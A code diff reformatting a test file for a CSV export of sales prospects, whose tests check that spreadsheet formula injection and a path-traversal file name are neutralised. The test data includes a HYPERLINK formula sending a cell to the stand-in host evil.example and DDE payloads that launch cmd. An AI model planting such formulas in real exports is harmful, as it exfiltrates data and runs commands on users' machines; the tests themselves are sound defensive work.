@@ -28,13 +28,18 @@ describe('CSV export', () => {
   });
 
   it.each([
-    ['=HYPERLINK("http://evil.example/?x="&A1, "Click")', `'=HYPERLINK("http://evil.example/?x="&A1, "Click")`],
+    [
+      '=HYPERLINK("http://evil.example/?x="&A1, "Click")',
+      `'=HYPERLINK("http://evil.example/?x="&A1, "Click")`,
+    ],
     ['+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
     ['-2+3', `'-2+3`],
     ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
     ['\t=1+1', `'\t=1+1`],
   ])('neutralises a formula in any cell: %s', (payload, expected) => {
-    const rows = parse(prospectsToCsv([prospect('x', { name: payload, position: payload, company: payload })]));
+    const rows = parse(
+      prospectsToCsv([prospect('x', { name: payload, position: payload, company: payload })]),
+    );
     expect(rows[1]?.[0]).toBe(expected);
     expect(rows[1]?.[3]).toBe(expected);
     expect(rows[1]?.[4]).toBe(expected);
@@ -47,7 +52,11 @@ describe('CSV export', () => {
   });
 
   it('names the file after the domain and the day', () => {
-    expect(csvFileName('acme.example', new Date('2026-11-01T10:00:00Z'))).toBe('prospects-acme.example-2026-11-01.csv');
-    expect(csvFileName('../../etc', new Date('2026-11-01T10:00:00Z'))).toBe('prospects-..-..-etc-2026-11-01.csv');
+    expect(csvFileName('acme.example', new Date('2026-11-01T10:00:00Z'))).toBe(
+      'prospects-acme.example-2026-11-01.csv',
+    );
+    expect(csvFileName('../../etc', new Date('2026-11-01T10:00:00Z'))).toBe(
+      'prospects-..-..-etc-2026-11-01.csv',
+    );
   });
 });
